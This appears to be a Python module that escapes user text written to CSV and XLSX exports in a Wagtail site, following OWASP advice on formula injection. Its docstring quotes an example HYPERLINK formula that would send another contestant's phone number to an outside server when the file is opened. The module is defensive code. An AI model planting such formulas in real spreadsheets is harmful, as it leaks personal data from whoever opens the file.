"""User text written to spreadsheets (XLSX, CSV) stays text.

A cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which some
programs skip before looking for those) is run as a formula when the file is opened: a contestant
named ``=HYPERLINK("http://…?"&D2,"Bấm xem")`` would send another contestant's phone number to a
stranger's server from the organiser's computer. OWASP's advice, followed here: prefix such text
with an apostrophe, and write spreadsheet cells explicitly as strings.
"""

from __future__ import annotations

from collections.abc import Iterable

from openpyxl.cell.cell import Cell, WriteOnlyCell
from openpyxl.worksheet._write_only import WriteOnlyWorksheet
from wagtail.snippets.views.snippets import IndexView

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(value: object) -> object:
    """``value`` ready for a spreadsheet cell: text that could start a formula gets a leading ``'``.

    Numbers, dates, booleans and None pass unchanged (they are not text a stranger typed).
    """
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def append_row(worksheet, values: Iterable[object]) -> None:
    """Append one row to an openpyxl worksheet (ordinary or write-only) with every text cell made safe
    and typed as a string."""
    make_cell = WriteOnlyCell if isinstance(worksheet, WriteOnlyWorksheet) else Cell
    row = []
    for value in values:
        safe = spreadsheet_safe(value)
        if isinstance(safe, str):
            cell = make_cell(worksheet, value=safe)
            cell.data_type = "s"  # never "f" (formula), whatever the text looks like
            row.append(cell)
        else:
            row.append(safe)
    worksheet.append(row)


def csv_row(values: Iterable[object]) -> list[object]:
    """One CSV row with every text cell made safe (for ``csv.writer.writerow``)."""
    return [spreadsheet_safe(v) for v in values]


class SafeSpreadsheetExportMixin:
    """For Wagtail listing views with ``list_export``: their CSV download escapes nothing (the XLSX one
    only retypes formulas), so every exported value goes through :func:`spreadsheet_safe` as well."""

    def preprocess_field_value(self, field, value, export_format):
        return spreadsheet_safe(super().preprocess_field_value(field, value, export_format))


class SafeExportIndexView(SafeSpreadsheetExportMixin, IndexView):
    """Snippet listing with safe CSV/XLSX downloads: ``index_view_class = SafeExportIndexView``."""
